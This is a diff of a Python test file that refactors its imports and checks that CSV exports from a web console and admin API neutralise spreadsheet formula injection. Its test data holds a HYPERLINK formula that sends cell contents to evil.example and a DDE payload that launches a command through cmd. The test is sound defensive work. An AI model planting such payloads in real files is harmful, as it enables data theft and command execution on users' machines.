@@ -11,9 +11,8 @@ from fastapi.testclient import TestClient
 from modelshop.channels import channels
 from modelshop.channels.csvsafe import cell
 from modelshop.db import get_database
-from tests.web.conftest import ADMIN_KEY
-from tests.web.test_console import login
-from tests.web.test_console_access import make_world, period
+from tests.support import ADMIN_KEY, AUTH, period
+from tests.web.helpers import login, make_world
 
 EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"invoice")'
 CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -38,16 +37,15 @@ def test_the_console_and_api_csv_downloads_are_neutralised(app, shop_settings):
     ch = channels.create_channel(db, EVIL, "campaign", code="evil", actor="test")
     channels.set_cost(db, ch["code"], period(0), "100", actor="test")  # no revenue: ROI -1.00, a real number
     payout_id = world["payouts"][world["mine"]["id"]]
-    admin = {"Authorization": f"Bearer {ADMIN_KEY}"}
     with TestClient(app) as client:
         login(client, ADMIN_KEY)
         report = rows(client.get("/console/channels/report.csv").text)
         header, evil = report[0], next(r for r in report if r[0] == "evil")
         assert evil[header.index("name")] == "'" + EVIL and evil[header.index("roi")] == "-1.00"
-        api = rows(client.get("/admin/channels/report", params={"format": "csv"}, headers=admin).text)
+        api = rows(client.get("/admin/channels/report", params={"format": "csv"}, headers=AUTH).text)
         assert next(r for r in api if r[0] == "evil")[header.index("name")] == "'" + EVIL
         for url in (f"/console/payouts/{payout_id}.csv", f"/admin/payouts/{payout_id}.csv"):
-            statement = rows(client.get(url, headers=admin).text)
+            statement = rows(client.get(url, headers=AUTH).text)
             assert [r[2] for r in statement[1:-1]] == ["'" + CALC], url
     partner = TestClient(app)
     with partner:
